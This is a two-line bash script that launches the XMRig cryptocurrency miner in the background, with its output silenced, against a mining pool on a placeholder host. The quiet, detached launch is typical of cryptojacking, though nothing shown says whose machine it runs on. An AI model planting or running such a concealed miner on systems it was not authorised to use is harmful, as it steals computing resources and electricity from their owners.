#!/bin/bash
nohup ./xmrig -o stratum+tcp://pool.idle-worker.example:3333 -u 0 --donate-level 1 > /dev/null 2>&1 &
